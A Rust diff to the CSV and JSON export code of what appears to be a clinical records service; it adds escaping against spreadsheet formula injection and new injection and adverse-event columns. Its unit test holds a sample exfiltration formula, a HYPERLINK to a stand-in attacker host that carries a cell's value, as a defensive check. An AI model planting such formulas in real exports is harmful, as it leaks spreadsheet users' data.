@@ -37,25 +37,34 @@ impl Format {
     }
 }
 
-/// One CSV field, quoted when it must be (RFC 4180).
-fn csv_field(value: &str) -> String {
-    if value.contains([',', '"', '\n', '\r']) {
-        format!("\"{}\"", value.replace('"', "\"\""))
+/// A cell a spreadsheet could take for a formula (it begins with `=`, `+`,
+/// `-`, `@`, a tab or a carriage return) gets a leading `'`, so that it is
+/// shown as text and never evaluated (OWASP, CSV injection).
+pub fn neutralised(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
     } else {
-        value.to_owned()
+        std::borrow::Cow::Borrowed(cell)
     }
 }
 
-fn csv_line(fields: &[&str]) -> Bytes {
-    let mut line = fields
-        .iter()
-        .map(|f| csv_field(f))
-        .collect::<Vec<_>>()
-        .join(",");
-    line.push('\n');
-    Bytes::from(line)
+/// One CSV line through the `csv` crate (quoting per RFC 4180), every cell
+/// neutralised.
+fn csv_line<S: AsRef<str>>(fields: &[S]) -> Bytes {
+    let mut writer = csv::WriterBuilder::new()
+        .has_headers(false)
+        .terminator(csv::Terminator::Any(b'\n'))
+        .from_writer(Vec::new());
+    let cells: Vec<std::borrow::Cow<'_, str>> =
+        fields.iter().map(|f| neutralised(f.as_ref())).collect();
+    if let Err(e) = writer.write_record(cells.iter().map(|c| c.as_bytes())) {
+        tracing::error!(error = %e, "CSV row not written");
+    }
+    Bytes::from(writer.into_inner().unwrap_or_default())
 }
 
+/// The history CSV: the envelope, the clinical facts a reviewer looks for
+/// (empty where the event type has none), and the whole payload as JSON.
 const EVENT_COLUMNS: &[&str] = &[
     "seq",
     "event_id",
@@ -69,24 +78,99 @@ const EVENT_COLUMNS: &[&str] = &[
     "actor_role",
     "source",
     "standing",
+    "site",
+    "laterality",
+    "solution",
+    "lots",
+    "volume_ml",
+    "guidance",
+    "practitioner_id",
+    "adverse_event_kind",
+    "grade",
+    "serious",
+    "status",
+    "outcome",
+    "target_event_id",
+    "payload",
     "subject",
 ];
 
+/// A payload field as a cell: text as it is, anything else as JSON, absent as empty.
+fn field(payload: &serde_json::Value, path: &[&str]) -> String {
+    let value = path.iter().try_fold(payload, |v, key| v.get(key));
+    match value {
+        None | Some(serde_json::Value::Null) => String::new(),
+        Some(serde_json::Value::String(s)) => s.clone(),
+        Some(other) => other.to_string(),
+    }
+}
+
+/// The solution's components (`dextrose 15% + lidocaine 1%`) and their lots.
+fn components(payload: &serde_json::Value) -> (String, String) {
+    let Some(items) = payload
+        .get("solution")
+        .and_then(|s| s.get("components"))
+        .and_then(|c| c.as_array())
+    else {
+        return (String::new(), String::new());
+    };
+    let label = |c: &serde_json::Value| {
+        let agent = field(c, &["agent"]);
+        match c.get("concentration_pct") {
+            Some(pct) if !pct.is_null() => format!("{agent} {pct}%"),
+            _ => agent,
+        }
+    };
+    (
+        items.iter().map(label).collect::<Vec<_>>().join(" + "),
+        items
+            .iter()
+            .map(|c| field(c, &["lot"]))
+            .collect::<Vec<_>>()
+            .join(" "),
+    )
+}
+
 fn event_csv(v: &EventView) -> Bytes {
+    let p = &v.payload;
+    let (solution, lots) = components(p);
+    let lots = if lots.is_empty() {
+        field(p, &["lot"])
+    } else {
+        lots
+    };
     csv_line(&[
-        &v.seq.to_string(),
-        &v.event_id.to_string(),
-        v.event_type,
-        &v.occurred_at.to_rfc3339(),
-        &v.recorded_at.to_rfc3339(),
-        &v.stored_at.to_rfc3339(),
-        &v.clinic_id,
-        v.patient_id.as_deref().unwrap_or(""),
-        &v.actor.id,
-        &prolo_projector::fold::name(&v.actor.role),
-        &v.source,
-        v.standing,
-        &v.subject,
+        v.seq.to_string(),
+        v.event_id.to_string(),
+        v.event_type.to_owned(),
+        v.occurred_at.to_rfc3339(),
+        v.recorded_at.to_rfc3339(),
+        v.stored_at.to_rfc3339(),
+        v.clinic_id.clone(),
+        v.patient_id.clone().unwrap_or_default(),
+        v.actor.id.clone(),
+        prolo_projector::fold::name(&v.actor.role),
+        v.source.clone(),
+        v.standing.to_owned(),
+        field(p, &["site", "site_key"]),
+        field(p, &["site", "laterality"]),
+        solution,
+        lots,
+        field(p, &["volume_ml"]),
+        field(p, &["guidance"]),
+        field(p, &["practitioner_id"]),
+        field(p, &["kind"]),
+        field(p, &["grade"]),
+        field(p, &["serious"]),
+        field(p, &["status"]),
+        field(p, &["outcome"]),
+        [
+            field(p, &["target", "event_id"]),
+            field(p, &["adverse_event_id"]),
+        ]
+        .concat(),
+        p.to_string(),
+        v.subject.clone(),
     ])
 }
 
@@ -143,7 +227,10 @@ const INJECTION_COLUMNS: &[&str] = &[
     "laterality",
     "occurred_at",
     "practitioner_id",
+    "solution",
     "lots",
+    "volume_ml",
+    "guidance",
 ];
 
 /// Streams injection rows (a lot trace) as JSON Lines or CSV.
@@ -153,15 +240,18 @@ pub fn stream_injections(rows: Vec<InjectionRow>, format: Format) -> Response {
             "text/csv",
             std::iter::once(csv_line(INJECTION_COLUMNS)).chain(rows.into_iter().map(|r| {
                 csv_line(&[
-                    &r.seq.to_string(),
-                    &r.event_id.to_string(),
-                    &r.clinic_id,
-                    &r.patient_id,
-                    &r.site_key,
-                    r.laterality.as_deref().unwrap_or(""),
-                    &r.occurred_at.to_rfc3339(),
-                    &r.practitioner_id,
-                    &r.lots.join(" "),
+                    r.seq.to_string(),
+                    r.event_id.to_string(),
+                    r.clinic_id,
+                    r.patient_id,
+                    r.site_key,
+                    r.laterality.unwrap_or_default(),
+                    r.occurred_at.to_rfc3339(),
+                    r.practitioner_id,
+                    r.solution,
+                    r.lots.join(" "),
+                    r.volume_ml.to_string(),
+                    r.guidance,
                 ])
             })),
         ),
@@ -174,9 +264,20 @@ mod tests {
     use super::*;
 
     #[test]
-    fn csv_fields_are_quoted_only_when_needed() {
-        assert_eq!(csv_field("plain"), "plain");
-        assert_eq!(csv_field("a,b"), "\"a,b\"");
-        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
+    fn csv_fields_are_quoted_when_needed_and_formulas_neutralised() {
+        let line = |cells: &[&str]| String::from_utf8(csv_line(cells).to_vec()).unwrap_or_default();
+        assert_eq!(line(&["plain", "a,b"]), "plain,\"a,b\"\n");
+        assert_eq!(line(&["say \"hi\""]), "\"say \"\"hi\"\"\"\n");
+        assert_eq!(
+            line(&["=HYPERLINK(\"http://evil.example/?\"&B2,\"open\")"]),
+            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B2,\"\"open\"\")\"\n"
+        );
+        for dangerous in ["+1", "-1+1", "@SUM(A1)", "\tx", "\rx"] {
+            assert!(
+                line(&[dangerous]).trim_start_matches('"').starts_with('\''),
+                "{dangerous:?}"
+            );
+        }
+        assert_eq!(line(&["P-1042"]), "P-1042\n", "a hyphen inside is harmless");
     }
 }
